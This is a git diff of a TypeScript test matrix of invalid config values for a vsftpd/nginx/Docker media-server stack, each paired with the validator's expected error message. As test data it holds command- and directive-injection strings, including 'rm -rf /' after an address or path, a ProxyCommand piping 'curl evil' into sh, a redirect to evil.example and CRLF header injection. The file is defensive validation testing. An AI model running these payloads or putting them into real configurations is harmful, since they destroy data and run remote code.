@@ -2,12 +2,20 @@
  * The bad-config matrix: one wrong-type case for every field of the schema (generated from it),
  * and hand-written cases for what each field must refuse: ranges, privileged and colliding ports,
  * passive ranges, reserved and duplicate names, paths escaping the media, characters that would
- * break out of an nginx or vsftpd directive, secrets, CIDRs, image references and SSH hosts.
+ * break out of an nginx or vsftpd directive, secrets, CIDRs, image references, SSH hosts and
+ * keys, and the rules between fields. Each hand-written case names the message the spec module
+ * gives (spec/schema.ts, spec/rules.ts), never zod's own wording.
  */
 import type { StackConfig } from "../support/project";
 import { withValue } from "../support/stacks";
 import { configFields, dottedAtFirst, messagePathAtFirst, type FieldKind } from "./configFields";
 import { everyFieldConfig } from "./everyField";
+
+/**
+ * The refusal comes from zod itself (a missing field, an enum, an array bound, an unknown key):
+ * the schema words no message of its own, so only the config path is ours to check.
+ */
+export const ZOD_WORDING = Symbol("zod's own wording");
 
 export interface BadCase {
   /** The schema field the case is about, e.g. `ftp.users[].name`. */
@@ -16,6 +24,8 @@ export interface BadCase {
   readonly kind: "type" | "value";
   /** The config path the error message must name, e.g. `ftp.users[1].name`. */
   readonly at: string;
+  /** Text of ours the message gives for that path; undefined for wrong types, whose wording is zod's. */
+  readonly message?: string | typeof ZOD_WORDING;
   readonly title: string;
   readonly config: StackConfig;
 }
@@ -50,150 +60,345 @@ export function typeCases(base: StackConfig = everyFieldConfig()): BadCase[] {
   });
 }
 
-/** [dotted path to set, value, why; the path the message names when another field is blamed]. */
-type Row = readonly [string, unknown, string, string?];
+interface Row {
+  /** Dotted paths and the values they get; undefined removes the key. */
+  readonly set: Readonly<Record<string, unknown>>;
+  readonly why: string;
+  /** What the message says about `at`: a fragment of the spec module's text, or ZOD_WORDING. */
+  readonly message: string | typeof ZOD_WORDING;
+  /** The path the message names, when not the (first) path set. */
+  readonly at?: string;
+}
+
+const row = (dotted: string, value: unknown, why: string, message: Row["message"], at?: string): Row => ({
+  set: { [dotted]: value },
+  why,
+  message,
+  at,
+});
+
+const IPV4 = "must be an IPv4 address";
+const PORT_RANGE = "must be 1–65535";
+const USER_NAME = "must match ^[a-z_][a-z0-9_-]{0,31}$";
+const RELATIVE_PATH = "must be a relative path without '..', dotfiles or a leading '/'";
+const URL_PREFIX = "must be a URL prefix like /videos/";
+const CIDR = "must be an IP address or CIDR such as 203.0.113.0/24";
+const SERVER_NAME = "must be a host name, *.domain or _";
+const ORIGIN = "must be an origin such as https://player.example.com, or *";
+const SECRET = "must be 16–256 characters from A-Z a-z 0-9 _ . ~ + / = -";
+const DOCKER_HOST = "must be unix:///path/to/docker.sock or ssh://user@host[:port]";
+const MEDIA_PATH = "must be a path without '..' or dotfile segments";
+const HOST_KEY = "must be a public host key such as 'ssh-ed25519 AAAAC3…'";
+/** An ssh-rsa key blob labelled as ed25519: the type must match the key. */
+const RSA_BLOB_AS_ED25519 = `ssh-ed25519 ${Buffer.concat([Buffer.from([0, 0, 0, 7]), Buffer.from("ssh-rsa"), Buffer.alloc(24, 1)]).toString("base64")}`;
 
 const ROWS: readonly Row[] = [
   // Ports: range, whole numbers, privileged passive ports, collisions.
-  ["ftp.port", 0, "port 0"],
-  ["ftp.port", 2121.5, "fractional port"],
-  ["ftp.port", 30005, "control port inside the passive range"],
-  ["http.port", 2121, "HTTP port equal to the FTP control port"],
-  ["http.port", 30000, "HTTP port at the bottom of the passive range"],
-  ["ftp.passivePorts.min", 1023, "privileged passive port"],
-  ["ftp.passivePorts.max", 70000, "passive port above 65535"],
-  ["ftp.passivePorts.max", 29999, "inverted passive range (empty)", "ftp.passivePorts"],
-  ["ftp.passivePorts", { min: 30000, max: 30100 }, "101 passive ports"],
-  ["ftp.passivePorts", { min: 30000 }, "passive range without max", "ftp.passivePorts.max"],
+  row("ftp.port", 0, "port 0", PORT_RANGE),
+  row("ftp.port", 70000, "port above 65535", PORT_RANGE),
+  row("ftp.port", 2121.5, "fractional port", "must be a whole number"),
+  row(
+    "ftp.port",
+    30005,
+    "control port inside the passive range",
+    "30005 lies inside ftp.passivePorts 30000–30009",
+  ),
+  row("http.port", 0, "HTTP port 0", PORT_RANGE),
+  row("http.port", 2121, "HTTP port equal to the FTP control port", "2121 is also ftp.port"),
+  row(
+    "http.port",
+    30000,
+    "HTTP port at the bottom of the passive range",
+    "30000 lies inside ftp.passivePorts",
+  ),
+  row(
+    "ftp.passivePorts.min",
+    1023,
+    "privileged passive port",
+    "must be 1024–65535 (passive ports are never privileged)",
+  ),
+  row("ftp.passivePorts.max", 70000, "passive port above 65535", PORT_RANGE),
+  row(
+    "ftp.passivePorts.max",
+    29999,
+    "inverted passive range (empty)",
+    "min (30000) must not be greater than max (29999)",
+    "ftp.passivePorts",
+  ),
+  row("ftp.passivePorts", { min: 30000, max: 30100 }, "101 passive ports", "101 ports; at most 100"),
+  row("ftp.passivePorts", { min: 30000 }, "passive range without max", ZOD_WORDING, "ftp.passivePorts.max"),
   // Addresses.
-  ["ftp.bindAddress", "localhost", "host name as bind address"],
-  ["http.bindAddress", "127.0.0.1; rm -rf /", "shell after the address"],
-  ["ftp.passiveAddress", "ftp.example.com\npasv_enable=NO", "a second vsftpd directive after a newline"],
-  ["ftp.passiveAddress", "", "empty passive address"],
+  row("ftp.bindAddress", "localhost", "host name as bind address", IPV4),
+  row("ftp.bindAddress", "256.1.1.1", "octet above 255", IPV4),
+  row("http.bindAddress", "127.0.0.1; rm -rf /", "shell after the address", IPV4),
+  row(
+    "ftp.passiveAddress",
+    "ftp.example.com\npasv_enable=NO",
+    "a second vsftpd directive after a newline",
+    "must be an IPv4 address or a host name",
+  ),
+  row("ftp.passiveAddress", "", "empty passive address", "must be an IPv4 address or a host name"),
+  {
+    set: { "ftp.bindAddress": "0.0.0.0", "ftp.passiveAddress": undefined },
+    why: "every address bound, no passive address",
+    message: "required when ftp.bindAddress is 0.0.0.0",
+    at: "ftp.passiveAddress",
+  },
   // FTP users: names, reserved names, duplicates, passwords, roots.
-  ["ftp.users", [], "no FTP user"],
-  ["ftp.users.0.name", "Editor", "upper-case user name"],
-  ["ftp.users.0.name", "editor:x", "':' would add a field to the password file"],
-  ["ftp.users.0.name", "editor\nroot", "newline would add a line to the password file"],
-  ["ftp.users.0.name", "../etc", "path in a user name (names the per-user config file)"],
-  ["ftp.users.1.name", "root", "reserved name root"],
-  ["ftp.users.1.name", "ftp", "reserved name ftp"],
-  ["ftp.users.1.name", "nginx", "reserved name nginx"],
-  ["ftp.users.1.name", "www-data", "reserved name www-data"],
-  ["ftp.users.2.name", "editor", "duplicate user name"],
-  ["ftp.users.0.password", "", "empty password"],
-  ["ftp.users.0.password", "seven-7", "7-character password"],
-  ["ftp.users.0.password", "ü".repeat(37), "74-byte password (bcrypt reads 72)"],
-  ["ftp.users.0.password", "pass\nword-123", "newline in password"],
-  ["ftp.users.1.root", "..", "root '..'"],
-  ["ftp.users.1.root", "team-a/../..", "root climbing out through '..'"],
-  ["ftp.users.1.root", "/etc", "absolute root"],
-  ["ftp.users.1.root", "team-a\\..\\..", "backslashes in root"],
-  ["ftp.users.1.root", "team-a -> /etc", "symlink-looking root"],
-  ["ftp.users.1.root", ".ssh", "dotfile root"],
-  ["ftp.users.1.root", "team-a/videos", "root inside a writable location folder (vsftpd refuses the chroot)"],
-  ["ftp.users.1.root", "team-b", "root holding no location folder"],
+  row("ftp.users", [], "no FTP user", "at least one FTP user is required"),
+  row("ftp.users.0.name", "Editor", "upper-case user name", USER_NAME),
+  row("ftp.users.0.name", "editor:x", "':' would add a field to the password file", USER_NAME),
+  row("ftp.users.0.name", "editor\nroot", "newline would add a line to the password file", USER_NAME),
+  row("ftp.users.0.name", "../etc", "path in a user name (names the per-user config file)", USER_NAME),
+  row("ftp.users.1.name", "root", "reserved name root", "'root' is reserved"),
+  row("ftp.users.1.name", "ftp", "reserved name ftp", "'ftp' is reserved"),
+  row("ftp.users.1.name", "nginx", "reserved name nginx", "'nginx' is reserved"),
+  row("ftp.users.1.name", "www-data", "reserved name www-data", "'www-data' is reserved"),
+  row("ftp.users.2.name", "editor", "duplicate user name", "'editor' is already ftp.users[0].name"),
+  row(
+    "ftp.users.0.password",
+    "",
+    "empty password",
+    "must be at least 8 characters (or leave it unset to generate one)",
+  ),
+  row("ftp.users.0.password", "seven-7", "7-character password", "must be at least 8 characters"),
+  row(
+    "ftp.users.0.password",
+    "ü".repeat(37),
+    "74-byte password (bcrypt reads 72)",
+    "must be at most 72 bytes",
+  ),
+  row("ftp.users.0.password", "pass\nword-123", "newline in password", "must not contain line breaks or NUL"),
+  row("ftp.users.1.root", "..", "root '..'", RELATIVE_PATH),
+  row("ftp.users.1.root", "team-a/../..", "root climbing out through '..'", RELATIVE_PATH),
+  row("ftp.users.1.root", "/etc", "absolute root", RELATIVE_PATH),
+  row("ftp.users.1.root", "team-a\\..\\..", "backslashes in root", RELATIVE_PATH),
+  row("ftp.users.1.root", "team-a -> /etc", "symlink-looking root", RELATIVE_PATH),
+  row("ftp.users.1.root", ".ssh", "dotfile root", RELATIVE_PATH),
+  row(
+    "ftp.users.1.root",
+    "team-a/videos",
+    "root inside a writable location folder (vsftpd refuses the chroot)",
+    "'team-a/videos' is inside the location directory 'team-a/videos'; vsftpd cannot chroot into a folder its user can write",
+  ),
+  row(
+    "ftp.users.1.root",
+    "team-b",
+    "root holding no location folder",
+    "no location directory lies inside 'team-b', so nothing there would be served",
+  ),
+  row("ftp.pasivePorts", { min: 30000, max: 30009 }, "a misspelt key", ZOD_WORDING, "ftp"),
   // FTPS and login limits.
-  ["ftp.tls", "on", "unknown TLS mode"],
-  [
+  row("ftp.tls", "on", "unknown TLS mode", ZOD_WORDING),
+  row(
     "ftp.tlsCertificate",
     "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\nrsa_cert_file=/etc/shadow",
     "a directive after the PEM",
-  ],
-  [
+    "must be a PEM certificate (chain)",
+  ),
+  row(
     "ftp.tlsKey",
     "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n",
     "a certificate given as the key",
-  ],
-  ["ftp.tlsKey", undefined, "TLS enabled without a key"],
-  ["ftp.maxLoginFails", 0, "no login attempt allowed"],
-  ["ftp.delayFailedLogin", -1, "negative delay"],
-  ["ftp.maxPerIp", 101, "more sessions per address than in all"],
-  ["ftp.maxClients", 10001, "above 10000 sessions"],
+    "must be a PEM private key",
+  ),
+  row("ftp.tlsKey", undefined, "TLS enabled without a key", "required when ftp.tls is enabled"),
+  row("ftp.maxLoginFails", 0, "no login attempt allowed", "must be 1–20"),
+  row("ftp.delayFailedLogin", -1, "negative delay", "must be 0–60"),
+  row("ftp.delayFailedLogin", 61, "delay above a minute", "must be 0–60"),
+  row("ftp.maxPerIp", 101, "more sessions per address than in all", "101 exceeds ftp.maxClients (100)"),
+  row("ftp.maxClients", 0, "no session allowed", "must be 1–10000"),
+  row("ftp.maxClients", 10001, "above 10000 sessions", "must be 1–10000"),
   // HTTP: server name, locations.
-  ["http.serverName", "media.example.com; return 301 http://evil.example", "a second nginx directive"],
-  ["http.serverName", "media.example.com\n}\nserver {", "a newline closing the server block"],
-  ["http.serverName", "$host", "an nginx variable"],
-  ["http.serverName", "~^(?<x>.+)$", "an nginx regex server name"],
-  ["http.locations", [], "no location"],
-  ["http.locations.0.path", "/videos/;", "';' in a location path"],
-  ["http.locations.0.path", "/videos/{", "'{' in a location path"],
-  ["http.locations.0.path", '/vid"eos/', "a double quote in a location path"],
-  ["http.locations.0.path", "/$uri/", "'$' in a location path"],
-  ["http.locations.0.path", "/my videos/", "a space in a location path"],
-  ["http.locations.0.path", "/videos/\nlocation / {", "a newline in a location path"],
-  ["http.locations.0.path", "~ ^/(.*)$", "a regex location"],
-  ["http.locations.0.path", "/vid*eos/", "'*' in a location path"],
-  ["http.locations.0.path", "/videos", "no trailing '/'"],
-  ["http.locations.0.path", "/../", "'..' as a location path"],
-  ["http.locations.0.path", "/images/", "duplicate location path", "http.locations[1].path"],
-  ["http.locations.0.directory", "../etc", "directory escaping the media"],
-  ["http.locations.0.directory", "/etc", "absolute directory"],
-  ["http.locations.0.directory", "videos; autoindex on", "a directive after the directory"],
-  [
+  row(
+    "http.serverName",
+    "media.example.com; return 301 http://evil.example",
+    "a second nginx directive",
+    SERVER_NAME,
+  ),
+  row("http.serverName", "media.example.com\n}\nserver {", "a newline closing the server block", SERVER_NAME),
+  row("http.serverName", "$host", "an nginx variable", SERVER_NAME),
+  row("http.serverName", "~^(?<x>.+)$", "an nginx regex server name", SERVER_NAME),
+  row("http.locations", [], "no location", "at least one location is required"),
+  row("http.locations.0.path", "/videos/;", "';' in a location path", URL_PREFIX),
+  row("http.locations.0.path", "/videos/{", "'{' in a location path", URL_PREFIX),
+  row("http.locations.0.path", '/vid"eos/', "a double quote in a location path", URL_PREFIX),
+  row("http.locations.0.path", "/$uri/", "'$' in a location path", URL_PREFIX),
+  row("http.locations.0.path", "/my videos/", "a space in a location path", URL_PREFIX),
+  row("http.locations.0.path", "/videos/\nlocation / {", "a newline in a location path", URL_PREFIX),
+  row("http.locations.0.path", "~ ^/(.*)$", "a regex location", URL_PREFIX),
+  row("http.locations.0.path", "/vid*eos/", "'*' in a location path", URL_PREFIX),
+  row("http.locations.0.path", "/videos", "no trailing '/'", URL_PREFIX),
+  row("http.locations.0.path", "/../", "'..' as a location path", URL_PREFIX),
+  row(
+    "http.locations.0.path",
+    "/images/",
+    "duplicate location path",
+    "'/images/' is already http.locations[0].path",
+    "http.locations[1].path",
+  ),
+  row("http.locations.0.directory", "../etc", "directory escaping the media", RELATIVE_PATH),
+  row("http.locations.0.directory", "/etc", "absolute directory", RELATIVE_PATH),
+  row("http.locations.0.directory", "videos; autoindex on", "a directive after the directory", RELATIVE_PATH),
+  row(
     "http.locations.0.directory",
     "team-a",
     "directory holding another location's directory",
+    "'team-a/videos' overlaps http.locations[0].directory 'team-a'",
     "http.locations[2].directory",
-  ],
-  ["http.locations.0.allow.0", "10.0.0.0/33", "IPv4 prefix above 32"],
-  ["http.locations.0.allow.0", "all", "nginx's 'all' keyword"],
-  ["http.locations.0.deny.0", "10.0.0.0/8; allow all", "a directive after the CIDR"],
-  ["http.locations.0.corsOrigins.0", "https://player.example.com/embed", "origin with a path"],
-  [
+  ),
+  row("http.locations.0.allow.0", "10.0.0.0/33", "IPv4 prefix above 32", CIDR),
+  row("http.locations.0.allow.0", "all", "nginx's 'all' keyword", CIDR),
+  row("http.locations.0.deny.0", "10.0.0.0/8; allow all", "a directive after the CIDR", CIDR),
+  row("http.locations.0.corsOrigins.0", "https://player.example.com/embed", "origin with a path", ORIGIN),
+  row("http.locations.0.corsOrigins.0", "ftp://player.example.com", "origin of another scheme", ORIGIN),
+  row(
     "http.locations.0.corsOrigins.0",
     "https://player.example.com\r\nSet-Cookie: x=1",
     "a header after the origin",
-  ],
-  ["http.locations.0.cacheSeconds", 31_536_001, "more than a year of caching"],
-  ["http.locations.0.limitRate", "0", "rate 0"],
-  ["http.locations.0.limitRateAfter", "10 m", "space in a size"],
-  ["http.locations.0.limitConnPerIp", 0, "no connection per address"],
-  ["http.users.0.name", "Viewer Name", "space in a basic-auth user name"],
-  ["http.users.0.password", "", "empty basic-auth password"],
-  ["http.users.0.password", undefined, "basic-auth user without a password"],
-  [
+    ORIGIN,
+  ),
+  row("http.locations.0.cacheSeconds", -1, "negative caching", "must be 0–31536000"),
+  row("http.locations.0.cacheSeconds", 31_536_001, "more than a year of caching", "must be 0–31536000"),
+  row("http.locations.0.limitRate", "0", "rate 0", "must be a rate in bytes per second such as 2m or 500k"),
+  row(
+    "http.locations.0.limitRate",
+    undefined,
+    "a burst size without a rate",
+    "has no effect without http.locations[0].limitRate",
+    "http.locations[0].limitRateAfter",
+  ),
+  row("http.locations.0.limitRateAfter", "10 m", "space in a size", "must be a size such as 10m"),
+  row("http.locations.0.limitConnPerIp", 0, "no connection per address", "must be 1–10000"),
+  row("http.users.0.name", "Viewer Name", "space in a basic-auth user name", USER_NAME),
+  row("http.users.0.password", "", "empty basic-auth password", "must be at least 8 characters"),
+  row("http.users.0.password", undefined, "basic-auth user without a password", ZOD_WORDING),
+  row(
     "http.users",
     [
       { name: "viewer", password: "viewer-http-password" },
       { name: "viewer", password: "other-http-password" },
     ],
     "duplicate basic-auth user",
+    "'viewer' is already http.users[0].name",
     "http.users[1].name",
-  ],
-  ["http.users", [], "basic auth with no user", "http.locations[0].basicAuth"],
-  ["http.secureLinkSecret", "too-short", "secret under 16 characters"],
-  ["http.secureLinkSecret", 'secret-with-a-"quote"-inside', "a quote would end nginx's string"],
-  ["http.secureLinkSecret", "secret-with-$uri-inside-it", "'$' would expand an nginx variable"],
-  ["http.secureLinkSecret", undefined, "secure links without a secret", "http.locations[0].secureLink"],
-  ["http.gallery.path", "/gallery", "gallery path without trailing '/'"],
-  ["http.gallery.path", "/videos/", "gallery on a location's path"],
-  ["http.directio", "4g", "unit g"],
-  // Docker side: names, images, host, media path.
-  ["name", "-video-server", "name starting with '-'"],
-  ["name", "video server", "space in the name"],
-  ["images.ftp", "Registry.example.com/vsftpd:1.0", "upper-case registry"],
-  ["images.ftp", "vsftpd:1.0 --privileged", "an argument after the reference"],
-  ["images.web", "nginx@sha256:1234", "short digest"],
-  ["target.dockerHost", "tcp://10.0.0.1:2375", "unencrypted TCP engine"],
-  ["target.dockerHost", "ssh://media.example.com", "SSH host without a user"],
-  ["target.dockerHost", "ssh://deploy@", "SSH URL without a host"],
-  ["target.dockerHost", "ssh://deploy@media.example.com:70000", "SSH port above 65535"],
-  ["target.dockerHost", "ssh://deploy@media.example.com;reboot", "a shell command after the host"],
-  ["target.sshOpts.1", "ProxyCommand=sh -c 'curl evil | sh'", "spaces and quotes in an ssh argument"],
-  ["target.sshOpts", Array.from({ length: 33 }, () => "-4"), "33 ssh arguments"],
-  ["media.hostPath", "/srv/../etc", "'..' in the media path"],
-  ["media.hostPath", "/", "the filesystem root as media"],
-  ["media.hostPath", "/srv/media'; rm -rf '/", "a quote closing the shell word of mkdir"],
-  ["media.hostPath", "~/media", "home-directory shorthand"],
+  ),
+  row(
+    "http.users",
+    [],
+    "basic auth with no user",
+    "needs at least one entry in http.users",
+    "http.locations[0].basicAuth",
+  ),
+  row("http.secureLinkSecret", "too-short", "secret under 16 characters", SECRET),
+  row("http.secureLinkSecret", 'secret-with-a-"quote"-inside', "a quote would end nginx's string", SECRET),
+  row("http.secureLinkSecret", "secret-with-$uri-inside-it", "'$' would expand an nginx variable", SECRET),
+  row(
+    "http.secureLinkSecret",
+    undefined,
+    "secure links without a secret",
+    "needs http.secureLinkSecret",
+    "http.locations[0].secureLink",
+  ),
+  row(
+    "http.gallery.path",
+    "/gallery",
+    "gallery path without trailing '/'",
+    "must be / or a URL prefix like /gallery/",
+  ),
+  row(
+    "http.gallery.path",
+    "/videos/",
+    "gallery on a location's path",
+    "'/videos/' is also http.locations[0].path",
+  ),
+  row(
+    "http.gallery.path",
+    "/videos/all/",
+    "gallery inside a location's path",
+    "'/videos/all/' lies inside http.locations[0].path '/videos/'",
+  ),
+  {
+    set: { "http.locations.0.autoindex": false, "http.locations.1.autoindex": false },
+    why: "the gallery on, no listed location",
+    message: "the gallery shows locations with autoindex on, and none has it",
+    at: "http.gallery.enabled",
+  },
+  row("http.directio", "4g", "unit g", "must be off or a size such as 4m"),
+  // Docker side: names, images, host, SSH, media path.
+  row("name", "-video-server", "name starting with '-'", "must be a docker name prefix"),
+  row("name", "video server", "space in the name", "must be a docker name prefix"),
+  row("images.ftp", "Registry.example.com/vsftpd:1.0", "upper-case registry", "must be an image reference"),
+  row(
+    "images.ftp",
+    "vsftpd:1.0 --privileged",
+    "an argument after the reference",
+    "must be an image reference",
+  ),
+  row("images.web", "nginx@sha256:1234", "short digest", "must be an image reference"),
+  row("target.dockerHost", "tcp://10.0.0.1:2375", "unencrypted TCP engine", DOCKER_HOST),
+  row("target.dockerHost", "ssh://media.example.com", "SSH host without a user", DOCKER_HOST),
+  row("target.dockerHost", "ssh://deploy@", "SSH URL without a host", DOCKER_HOST),
+  row(
+    "target.dockerHost",
+    "ssh://deploy@media.example.com:70000",
+    "SSH port above 65535",
+    "the ssh port must be 1–65535",
+  ),
+  row(
+    "target.dockerHost",
+    "ssh://deploy@media.example.com;reboot",
+    "a shell command after the host",
+    DOCKER_HOST,
+  ),
+  row(
+    "target.sshOpts.1",
+    "ProxyCommand=sh -c 'curl evil | sh'",
+    "spaces and quotes in an ssh argument",
+    "must be one ssh argument",
+  ),
+  row(
+    "target.sshOpts",
+    Array.from({ length: 33 }, () => "-4"),
+    "33 ssh arguments",
+    ZOD_WORDING,
+  ),
+  row("target.sshHostKey", "ssh-ed25519 AAAA", "a key too short to be one", HOST_KEY),
+  row("target.sshHostKey", RSA_BLOB_AS_ED25519, "an RSA key labelled ssh-ed25519", HOST_KEY),
+  row(
+    "target.sshHostKey",
+    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\nStrictHostKeyChecking=no",
+    "an ssh option after the key",
+    HOST_KEY,
+  ),
+  {
+    set: { "target.dockerHost": "unix:///var/run/docker.sock" },
+    why: "a host key for a local engine",
+    message: "only used with an ssh:// target.dockerHost",
+    at: "target.sshHostKey",
+  },
+  row("target.platform", "linux/386", "an architecture the images are not built for", ZOD_WORDING),
+  row("media.hostPath", undefined, "no media path", ZOD_WORDING),
+  row("media.hostPath", "/srv/../etc", "'..' in the media path", MEDIA_PATH),
+  row("media.hostPath", "/", "the filesystem root as media", MEDIA_PATH),
+  row("media.hostPath", "/srv/media'; rm -rf '/", "a quote closing the shell word of mkdir", MEDIA_PATH),
+  row("media.hostPath", "~/media", "home-directory shorthand", MEDIA_PATH),
+  row(
+    "media.hostPath",
+    "media",
+    "a relative media path on an ssh:// target",
+    "must be absolute when target.dockerHost is an ssh:// host",
+  ),
 ];
 
 export function valueCases(base: StackConfig = everyFieldConfig()): BadCase[] {
-  return ROWS.map(([dotted, value, why, blamed]) => {
-    const at = blamed ?? messagePath(dotted);
-    const field = fieldOf(dotted);
-    const title = `${at}: ${why} (${messagePath(dotted)} = ${show(value)})`;
-    return { field, kind: "value", at, title, config: withValue(base, dotted, value) };
+  return ROWS.map(({ set, why, message, at: blamed }) => {
+    const changes = Object.entries(set);
+    const at = blamed ?? messagePath(changes[0][0]);
+    const field = fieldOf(changes[0][0]);
+    const shown = changes.map(([dotted, value]) => `${messagePath(dotted)} = ${show(value)}`).join(", ");
+    const config = changes.reduce((c, [dotted, value]) => withValue(c, dotted, value), base);
+    return { field, kind: "value", at, message, title: `${at}: ${why} (${shown})`, config };
   });
 }
 
